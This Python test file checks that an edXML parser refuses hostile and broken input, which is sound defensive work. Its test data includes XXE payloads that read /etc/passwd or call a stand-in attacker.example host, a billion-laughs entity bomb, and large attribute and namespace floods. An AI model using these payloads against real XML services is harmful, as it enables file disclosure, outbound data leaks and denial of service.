"""Hostile and broken input: each refused with its exact code (and line where it has one)."""

from __future__ import annotations

from pathlib import Path

import pytest

from app.edxml import (
    FORBIDDEN_CONSTRUCT,
    INVALID,
    MALFORMED,
    MAX_DEPTH,
    PAYLOAD_TOO_LARGE,
    EdxmlError,
    parse_file,
    parse_message,
    validate_message,
)
from app.edxml.parser import (
    MAX_ATTRIBUTES_PER_ELEMENT,
    MAX_MARKUP,
    MAX_NAMESPACE_DECLARATIONS,
    MAX_NAMESPACE_URI_CHARS,
    MAX_NAMESPACES_PER_ELEMENT,
)
from app.edxml.reader import MAX_ERRORS
from tests.edxml.factory import MAX_BYTES, document_bytes, line_of

BASE = document_bytes()
DECL = b'<?xml version="1.0" encoding="UTF-8"?>\n'
BODY = BASE[len(DECL) :]


def _refused(data: bytes, max_bytes: int = MAX_BYTES) -> EdxmlError:
    with pytest.raises(EdxmlError) as info:
        parse_message(data, max_bytes=max_bytes)
    return info.value


def _with_doctype(doctype: bytes) -> bytes:
    return DECL + doctype + b"\n" + BODY


def test_base_document_is_valid() -> None:
    """The corpus below mutates this document; it must be accepted as is."""
    assert parse_message(BASE, max_bytes=MAX_BYTES).document is not None


# --- DTD and entities: refused before libxml2 sees them ---

XXE_FILE = b'<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_NETWORK = b'<!DOCTYPE edXML [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>'
XXE_PARAMETER = b'<!DOCTYPE edXML [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>'
BILLION_LAUGHS = (
    b'<!DOCTYPE edXML [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1) if i > 1 else b"&lol;") * 10)
        for i in range(1, 10)
    )
    + b"]>"
)
QUADRATIC = b'<!DOCTYPE edXML [<!ENTITY a "' + b"x" * 50_000 + b'">]>'
PLAIN_DOCTYPE = b"<!DOCTYPE edXML>"
EXTERNAL_DTD = b'<!DOCTYPE edXML SYSTEM "http://attacker.example/edxml.dtd">'


@pytest.mark.parametrize(
    "doctype",
    [XXE_FILE, XXE_NETWORK, XXE_PARAMETER, BILLION_LAUGHS, QUADRATIC, PLAIN_DOCTYPE, EXTERNAL_DTD],
    ids=[
        "xxe-file",
        "xxe-network",
        "xxe-parameter",
        "billion-laughs",
        "quadratic",
        "doctype",
        "external-dtd",
    ],
)
def test_doctype_refused(doctype: bytes) -> None:
    body = BODY
    if b"ENTITY" in doctype and b"%p;" not in doctype:
        name = doctype.split(b"<!ENTITY ")[-1].split(b" ")[0]
        body = body.replace("Nội dung".encode(), b"&" + name + b";", 1)
    err = _refused(DECL + doctype + b"\n" + body)
    assert err.code == FORBIDDEN_CONSTRUCT
    assert err.status == 422
    assert (err.line, err.column) == (2, 1)


def test_doctype_after_comment_and_pi_refused() -> None:
    data = DECL + b"<!-- hello -->\n<?pi data?>\n" + PLAIN_DOCTYPE + b"\n" + BODY
    err = _refused(data)
    assert err.code == FORBIDDEN_CONSTRUCT
    assert err.line == 4


def test_doctype_refused_from_file(tmp_path: Path) -> None:
    path = tmp_path / "x.edxml"
    path.write_bytes(_with_doctype(XXE_FILE).replace("Nội dung".encode(), b"&xxe;", 1))
    with pytest.raises(EdxmlError) as info:
        parse_file(path, max_bytes=MAX_BYTES)
    assert info.value.code == FORBIDDEN_CONSTRUCT


def test_huge_prolog_refused() -> None:
    data = DECL + b"<!--" + b"x" * 70_000 + b"-->\n" + BODY
    assert _refused(data).code == FORBIDDEN_CONSTRUCT


# --- resource limits ---


def test_deep_nesting_refused() -> None:
    depth = MAX_DEPTH + 2
    nest = b"<edXML:X>" * depth + b"</edXML:X>" * depth
    data = BASE.replace(b"</edXML:MessageHeader>", nest + b"</edXML:MessageHeader>", 1)
    err = _refused(data)
    assert err.code == FORBIDDEN_CONSTRUCT
    assert "deeper" in err.detail
    assert err.line == line_of(data, b"<edXML:X>")


def test_very_deep_nesting_refused() -> None:
    """Deeper than libxml2's own limit (2048 with huge_tree): still a forbidden construct."""
    nest = b"<a>" * 5000 + b"</a>" * 5000
    data = BASE.replace(b"</edXML:MessageHeader>", nest + b"</edXML:MessageHeader>", 1)
    assert _refused(data).code == FORBIDDEN_CONSTRUCT


def test_nesting_within_limit_accepted() -> None:
    """Unknown extension elements are ignored, and the format's own depth is well inside."""
    nest = b"<edXML:X>" * 5 + b"</edXML:X>" * 5
    data = BASE.replace(b"</edXML:MessageHeader>", nest + b"</edXML:MessageHeader>", 1)
    assert parse_message(data, max_bytes=MAX_BYTES).document is not None


def test_huge_attribute_refused() -> None:
    data = BASE.replace(
        b'edXMLManifest version="1.0"', b'edXMLManifest version="' + b"1" * 100_000 + b'"', 1
    )
    err = _refused(data)
    assert err.code == FORBIDDEN_CONSTRUCT
    assert "attribute" in err.detail
    assert err.line == line_of(data, b"<edXML:edXMLManifest")


def test_element_flood_refused() -> None:
    flood = b"<x/>" * (MAX_MARKUP + 1)
    data = BASE.replace(b"</edXML:MessageHeader>", flood + b"</edXML:MessageHeader>", 1)
    err = _refused(data)
    assert err.code == FORBIDDEN_CONSTRUCT
    assert "markup" in err.detail


def test_attribute_flood_refused() -> None:
    attrs = b"".join(b' a%d=""' % i for i in range(MAX_MARKUP + 1))
    data = BASE.replace(b"<edXML:Subject>", b"<edXML:Subject" + attrs + b">", 1)
    assert _refused(data).code == FORBIDDEN_CONSTRUCT


def test_oversize_refused_before_parsing() -> None:
    err = _refused(b"<" * 100, max_bytes=99)
    assert err.code == PAYLOAD_TOO_LARGE
    assert err.status == 413


def test_oversize_file_refused(tmp_path: Path) -> None:
    path = tmp_path / "big.edxml"
    path.write_bytes(BASE)
    with pytest.raises(EdxmlError) as info:
        parse_file(path, max_bytes=len(BASE) - 1)
    assert info.value.code == PAYLOAD_TOO_LARGE


# --- not well-formed: malformed, with line and column ---


def test_invalid_utf8_refused_with_position() -> None:
    data = BASE.replace(b"V/v tri", b"V/v \xff\xfetri", 1)
    err = _refused(data)
    assert err.code == MALFORMED
    assert err.status == 422
    assert err.line == line_of(data, b"\xff")
    assert err.column is not None and err.column > 1


def test_unbound_prefix_refused_with_position() -> None:
    data = BASE.replace(b"<edXML:Subject>", b"<zz:Subject>", 1).replace(
        b"</edXML:Subject>", b"</zz:Subject>", 1
    )
    err = _refused(data)
    assert err.code == MALFORMED
    assert "zz" in err.detail
    assert err.line == line_of(data, b"<zz:Subject>")
    assert err.column is not None


def test_mismatched_tag_refused_with_position() -> None:
    data = BASE.replace(b"</edXML:Subject>", b"</edXML:Subjekt>", 1)
    err = _refused(data)
    assert err.code == MALFORMED
    assert err.line == line_of(data, b"</edXML:Subjekt>")
    assert err.column is not None


def test_undeclared_entity_is_malformed() -> None:
    err = _refused(BASE.replace("Nội dung".encode(), b"&nbsp;", 1))
    assert err.code == MALFORMED
    assert err.line is not None


def test_empty_body_is_malformed() -> None:
    assert _refused(b"").code == MALFORMED


# --- well-formed but not edXML ---


def test_wrong_namespace_refused() -> None:
    data = BASE.replace(b"http://www.mic.gov.vn/TBT/QCVN_102_2016", b"urn:not-edxml")
    err = _refused(data)
    assert err.code == INVALID
    assert "namespace" in err.detail


def test_wrong_root_refused() -> None:
    err = _refused(b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>')
    assert err.code == INVALID
    assert "root" in err.detail


def test_child_outside_namespace_refused() -> None:
    data = BASE.replace(b"<edXML:Subject>", b'<Subject xmlns="">', 1).replace(
        b"</edXML:Subject>", b"</Subject>", 1
    )
    err = _refused(data)
    assert err.code == INVALID
    assert "MessageHeader/Subject" in err.detail


def test_non_utf8_declaration_refused() -> None:
    data = BASE.replace(b'encoding="UTF-8"', b'encoding="ISO-8859-1"', 1)
    err = _refused(data)
    assert err.code == INVALID
    assert "UTF-8" in err.detail


def test_utf16_refused() -> None:
    data = BASE.decode("utf-8").replace('encoding="UTF-8"', 'encoding="UTF-16"').encode("utf-16")
    assert _refused(data).code == INVALID


# --- missing required elements: named ---


def _without(element: bytes) -> bytes:
    start = BASE.index(b"<edXML:" + element + b">")
    end = BASE.index(b"</edXML:" + element + b">") + len(element) + 9
    return BASE[:start] + BASE[end:]


@pytest.mark.parametrize(
    ("element", "named"),
    [
        (b"Subject", "MessageHeader/Subject"),
        (b"Code", "MessageHeader/Code"),
        (b"PromulgationDate", "MessageHeader/PromulgationInfo/PromulgationDate"),
        (b"From", "MessageHeader/From"),
    ],
)
def test_missing_required_element(element: bytes, named: str) -> None:
    err = _refused(_without(element))
    assert err.code == INVALID
    assert named in err.detail
    assert "required" in err.detail


def test_missing_from_organ_id() -> None:
    data = BASE.replace(b"<edXML:OrganId>000.00.00.H39</edXML:OrganId>", b"", 1)
    err = _refused(data)
    assert err.code == INVALID
    assert "MessageHeader/From/OrganId is required" in err.detail


def test_missing_to() -> None:
    start = BASE.index(b"<edXML:To>")
    end = BASE.rindex(b"</edXML:To>") + len(b"</edXML:To>")
    err = _refused(BASE[:start] + BASE[end:])
    assert err.code == INVALID
    assert "MessageHeader/To is required" in err.detail


def test_empty_required_element_counts_as_missing() -> None:
    data = BASE.replace(
        b"<edXML:CodeNumber>123</edXML:CodeNumber>", b"<edXML:CodeNumber> </edXML:CodeNumber>"
    )
    err = _refused(data)
    assert "MessageHeader/Code/CodeNumber is required" in err.detail


def test_leaf_with_child_elements_refused() -> None:
    data = BASE.replace(b"<edXML:Subject>", b"<edXML:Subject><edXML:B>x</edXML:B>", 1)
    err = _refused(data)
    assert err.code == INVALID
    assert "MessageHeader/Subject must hold text" in err.detail


def test_repeated_single_element_refused() -> None:
    subject = "<edXML:Subject>V/v triển khai liên thông văn bản điện tử</edXML:Subject>".encode()
    data = BASE.replace(subject, subject + subject, 1)
    err = _refused(data)
    assert err.code == INVALID
    assert "Subject appears more than once" in err.detail


@pytest.mark.parametrize(
    ("remove", "named"),
    [
        (b"<edXML:StatusCode>03</edXML:StatusCode>", None),  # without it, it reads as a document
        (
            b"<edXML:DocumentId>000.00.00.H39,2026/11/26,123/UBND-NC</edXML:DocumentId>",
            "ResponseFor/DocumentId",
        ),
        (b"<edXML:OrganId>000.00.01.H39</edXML:OrganId>", "MessageHeader/From/OrganId"),
    ],
)
def test_status_missing_required(remove: bytes, named: str | None) -> None:
    from app.edxml import build_status
    from tests.edxml.factory import make_status

    data = build_status(make_status())
    assert remove in data
    outcome = validate_message(data.replace(remove, b""), max_bytes=MAX_BYTES)
    assert not outcome.valid
    assert all(e.code == INVALID for e in outcome.errors)
    if named is None:
        assert outcome.kind == "document"  # no StatusCode: judged as a document, and incomplete
    else:
        assert outcome.kind == "status"
        assert any(named in e.detail for e in outcome.errors)


def test_status_without_from_refused() -> None:
    from app.edxml import build_status
    from tests.edxml.factory import make_status

    data = build_status(make_status())
    start, end = data.index(b"<edXML:From>"), data.index(b"</edXML:From>") + len(b"</edXML:From>")
    err = _refused(data[:start] + data[end:])
    assert err.code == INVALID
    assert "MessageHeader/From is required" in err.detail


@pytest.mark.parametrize("code", [b"07", b"1", b"99", b"AB"])
def test_unknown_status_code_refused(code: bytes) -> None:
    from app.edxml import build_status
    from tests.edxml.factory import make_status

    data = build_status(make_status()).replace(b">03<", b">" + code + b"<")
    err = _refused(data)
    assert err.code == INVALID
    assert "StatusCode" in err.detail


# --- lengths ---


@pytest.mark.parametrize(
    ("old", "tag", "limit"),
    [
        ("V/v triển khai liên thông văn bản điện tử".encode(), "Subject", 500),
        ("Nội dung &amp; &lt;chi tiết&gt;".encode(), "Content", 500),
        (b"<edXML:Place>Long An<", "Place", 150),
        ("<edXML:Place>Như trên<".encode(), "ToPlaces/Place[1]", 150),
        ("Phụ lục 1".encode(), "Appendix", 250),
        (b"<edXML:AttachmentName>cong-van.zip<", "AttachmentName", 200),
    ],
)
def test_over_long_field_refused(old: bytes, tag: str, limit: int) -> None:
    assert old in BASE
    if old.endswith(b"<"):
        prefix = old[: old.index(b">") + 1]
        new = prefix + "ệ".encode() * (limit + 1) + b"<"
    else:
        new = "ệ".encode() * (limit + 1)
    data = BASE.replace(old, new, 1)
    if tag == "AttachmentName":  # it is written twice, in the Manifest and the Attachment
        data = data.replace(b">cong-van.zip<", b">" + "ệ".encode() * (limit + 1) + b"<")
    err = _refused(data)
    assert err.code == INVALID
    assert tag in err.detail
    assert f"at most {limit}" in err.detail


def test_field_at_limit_accepted() -> None:
    data = BASE.replace("V/v triển khai liên thông văn bản điện tử".encode(), "ệ".encode() * 500, 1)
    doc = parse_message(data, max_bytes=MAX_BYTES).document
    assert doc is not None and len(doc.subject) == 500


# --- manifest and attachments ---


def test_reference_without_attachment_refused() -> None:
    start = BASE.index(b"<Attachment>")
    end = BASE.index(b"</Attachment>") + len(b"</Attachment>")
    err = _refused(BASE[:start] + BASE[end:])
    assert err.code == INVALID
    assert "cid:1" in err.detail and "found 0" in err.detail


def test_attachment_not_in_manifest_refused() -> None:
    start = BASE.index(b"<edXML:Reference>")
    end = BASE.index(b"</edXML:Reference>") + len(b"</edXML:Reference>")
    data = BASE[:start] + BASE[end:]
    err = _refused(data)
    assert err.code == INVALID
    assert "not listed in the edXMLManifest" in err.detail
    assert err.line == line_of(data, b"<Attachment>")


def test_two_attachments_for_one_reference_refused() -> None:
    start = BASE.index(b"<Attachment>")
    end = BASE.index(b"</Attachment>") + len(b"</Attachment>")
    data = BASE[:end] + BASE[start:end] + BASE[end:]
    err = _refused(data)
    assert err.code == INVALID
    assert "found 2" in err.detail


def test_manifest_and_attachment_content_types_disagree_the_attachment_wins() -> None:
    """SPEC 3: the ContentId binds them; the Attachment's type is used, the rest is a warning."""
    data = BASE.replace(
        b"<ContentType>application/zip</ContentType>",
        b"<ContentType>application/x-msdownload</ContentType>",
    )
    parsed = parse_message(data, max_bytes=MAX_BYTES)
    assert parsed.attachments[0].content_type == "application/x-msdownload"
    codes = [w.code for w in parsed.warnings]
    # the manifest says zip, and the bytes are a zip although the attachment says otherwise
    assert codes == ["edxml.manifest_content_type", "attachment.content_type_magic"]
    assert "application/x-msdownload" in parsed.warnings[0].detail


def test_manifest_and_attachment_names_disagree_refused() -> None:
    data = BASE.replace(
        b"<AttachmentName>cong-van.zip</AttachmentName>",
        b"<AttachmentName>x.exe</AttachmentName>",
        1,
    )
    assert data != BASE
    err = _refused(data)
    assert err.code == INVALID
    assert "AttachmentName" in err.detail


@pytest.mark.parametrize(
    "payload",
    [b"UEsD!!!!", b"UEsDBA=", b"UEsDBA==UEsD", b"UEsDB", "UEsDBẠ==".encode()],
    ids=["alphabet", "padding", "data-after-padding", "truncated", "non-ascii"],
)
def test_bad_base64_refused(payload: bytes) -> None:
    start = BASE.index(b'QCVN_102_2016">', BASE.index(b"<edXML:ContentTransferEncoded")) + 15
    end = BASE.index(b"</edXML:ContentTransferEncoded>")
    data = BASE[:start] + payload + BASE[end:]
    err = _refused(data)
    assert err.code == INVALID
    assert "ContentTransferEncoded" in err.detail
    assert err.line == line_of(data, b"<edXML:ContentTransferEncoded")


def test_wrapped_base64_accepted() -> None:
    """MIME-style line-wrapped base64 (some Java/C# encoders) is valid."""
    start = BASE.index(b'QCVN_102_2016">', BASE.index(b"<edXML:ContentTransferEncoded")) + 15
    end = BASE.index(b"</edXML:ContentTransferEncoded>")
    text = BASE[start:end]
    wrapped = b"\r\n".join(text[i : i + 76] for i in range(0, len(text), 76))
    parsed = parse_message(BASE[:start] + wrapped + BASE[end:], max_bytes=MAX_BYTES)
    assert parsed.attachment_bytes("cid:1").startswith(b"PK\x03\x04")


# --- organizations ---


def test_duplicate_to_refused_at_the_repeat() -> None:
    data = BASE.replace(b"000.00.02.H39", b"000.00.01.H39", 1)
    err = _refused(data)
    assert err.code == INVALID
    assert "To[2]/OrganId" in err.detail and "more than one To" in err.detail
    lines = data.split(b"\n")
    assert b"000.00.01.H39" in lines[err.line - 1] if err.line else False
    assert len(err.errors) == 1  # the model's own duplicate check is not reported twice


@pytest.mark.parametrize(
    "organ_id",
    [
        b"000.00.00.h41",
        b"000..00.H39",
        b".000.H39",
        b"000.00.00.H39.",
        b"A" * 36,
        b"000 00",
        b"\xc4\x90.1",
    ],
)
def test_bad_organ_id_refused(organ_id: bytes) -> None:
    data = BASE.replace(b"000.00.02.H39", organ_id, 1)
    err = _refused(data)
    assert err.code == INVALID
    assert "To[2]/OrganId" in err.detail
    assert "not an OrganId" in err.detail


def test_element_flood_refused_from_file(tmp_path: Path) -> None:
    """parse_file counts markup while libxml2 reads, and stops it."""
    flood = b"<x/>" * (MAX_MARKUP + 1)
    path = tmp_path / "flood.edxml"
    path.write_bytes(BASE.replace(b"</edXML:MessageHeader>", flood + b"</edXML:MessageHeader>", 1))
    with pytest.raises(EdxmlError) as info:
        parse_file(path, max_bytes=MAX_BYTES)
    assert info.value.code == FORBIDDEN_CONSTRUCT
    # the thread's parser still works afterwards
    assert parse_message(BASE, max_bytes=MAX_BYTES).document is not None


def test_malformed_file_has_position(tmp_path: Path) -> None:
    data = BASE.replace(b"</edXML:Subject>", b"</edXML:Subjekt>", 1)
    path = tmp_path / "bad.edxml"
    path.write_bytes(data)
    with pytest.raises(EdxmlError) as info:
        parse_file(path, max_bytes=MAX_BYTES)
    assert info.value.code == MALFORMED
    assert info.value.line == line_of(data, b"</edXML:Subjekt>")


def test_parser_recovers_after_failures() -> None:
    """A stream of refused messages does not poison later parses on the same thread."""
    for _ in range(50):
        assert _refused(b"<edXML><a></edXML>").code == MALFORMED
    assert parse_message(BASE, max_bytes=MAX_BYTES).document is not None


# --- cost bombs: caps per element, not only in total (issue 11) ---


def _on_header(extra: bytes) -> bytes:
    return BASE.replace(b"<edXML:edXMLHeader", b"<edXML:edXMLHeader " + extra, 1)


def test_attribute_bomb_on_one_element_refused() -> None:
    """199 000 attributes on one element (2.3 MB) were accepted and took 210 s to sign."""
    data = _on_header(b" ".join(b'a%d="x"' % i for i in range(199_000)))
    err = _refused(data)
    assert err.code == FORBIDDEN_CONSTRUCT
    assert "attributes" in err.detail


@pytest.mark.parametrize("count", [MAX_ATTRIBUTES_PER_ELEMENT + 1, 5_000])
def test_attributes_per_element_capped(count: int) -> None:
    """Under the total budget but over the per-element cap: exclusive C14N is quadratic in it."""
    data = _on_header(b" ".join(b'a%d="x"' % i for i in range(count)))
    err = _refused(data)
    assert err.code == FORBIDDEN_CONSTRUCT
    assert f"more than {MAX_ATTRIBUTES_PER_ELEMENT} attributes" in err.detail
    assert err.line == line_of(data, b"<edXML:edXMLHeader")


def test_attributes_up_to_the_cap_accepted() -> None:
    data = _on_header(b" ".join(b'a%d="x"' % i for i in range(MAX_ATTRIBUTES_PER_ELEMENT)))
    assert parse_message(data, max_bytes=MAX_BYTES).document is not None


@pytest.mark.parametrize("count", [199_000, MAX_NAMESPACE_DECLARATIONS + 1])
def test_namespace_declaration_bomb_refused(count: int) -> None:
    data = _on_header(b" ".join(b'xmlns:n%d="urn:x:%d"' % (i, i) for i in range(count)))
    err = _refused(data)
    assert err.code == FORBIDDEN_CONSTRUCT
    assert "namespace" in err.detail or "attributes" in err.detail


def test_namespace_declarations_per_element_capped() -> None:
    data = _on_header(
        b" ".join(b'xmlns:n%d="urn:x:%d"' % (i, i) for i in range(MAX_NAMESPACES_PER_ELEMENT + 1))
    )
    err = _refused(data)
    assert err.code == FORBIDDEN_CONSTRUCT
    assert f"more than {MAX_NAMESPACES_PER_ELEMENT} namespaces" in err.detail
    assert err.line == line_of(data, b"<edXML:edXMLHeader")


def test_namespace_declarations_spread_over_elements_counted_in_total() -> None:
    """Within the per-element cap everywhere, over the total; from a file as well (the
    `xmlns` count straddles the reader's chunks)."""
    decls = b"".join(
        b'<n%d:X xmlns:n%d="urn:x:%d"/>' % (i, i, i) for i in range(MAX_NAMESPACE_DECLARATIONS)
    )
    data = BASE.replace(b"</edXML:MessageHeader>", decls + b"</edXML:MessageHeader>", 1)
    assert _refused(data).code == FORBIDDEN_CONSTRUCT


def test_namespace_flood_refused_from_file(tmp_path: Path) -> None:
    padding = b"<!-- " + b"p" * 70_000 + b" -->"  # moves the declarations across chunk borders
    decls = b" ".join(b'xmlns:n%d="urn:x:%d"' % (i, i) for i in range(2_000))
    path = tmp_path / "ns.edxml"
    path.write_bytes(
        BASE.replace(b"<edXML:MessageHeader>", padding + b"<edXML:MessageHeader " + decls + b">", 1)
    )
    with pytest.raises(EdxmlError) as info:
        parse_file(path, max_bytes=MAX_BYTES)
    assert info.value.code == FORBIDDEN_CONSTRUCT
    assert "namespace" in info.value.detail


def test_long_namespace_uri_refused() -> None:
    """Exclusive C14N repeats a declaration on each element using it: 1000 empty elements under
    a 100 kB URI canonicalized to 100 MB."""
    uri = b"urn:" + b"x" * 100_000
    data = _on_header(b'xmlns:n="' + uri + b'"').replace(
        b"</edXML:MessageHeader>", b"<n:a/>" * 1000 + b"</edXML:MessageHeader>", 1
    )
    err = _refused(data)
    assert err.code == FORBIDDEN_CONSTRUCT
    assert f"longer than {MAX_NAMESPACE_URI_CHARS}" in err.detail


def test_error_list_is_bounded() -> None:
    """10 000 bad To elements: at most MAX_ERRORS reported (locating each error walks its
    container, so an unbounded list costs quadratic time)."""
    start = BASE.index(b"<edXML:To>")
    end = BASE.index(b"</edXML:To>") + len(b"</edXML:To>")
    bad = b"".join(
        b"<edXML:To><edXML:OrganId>bad%d</edXML:OrganId></edXML:To>" % i for i in range(10_000)
    )
    outcome = validate_message(BASE[:start] + bad + BASE[end:], max_bytes=MAX_BYTES)
    assert not outcome.valid
    assert len(outcome.errors) == MAX_ERRORS
    assert all(e.code == INVALID for e in outcome.errors)
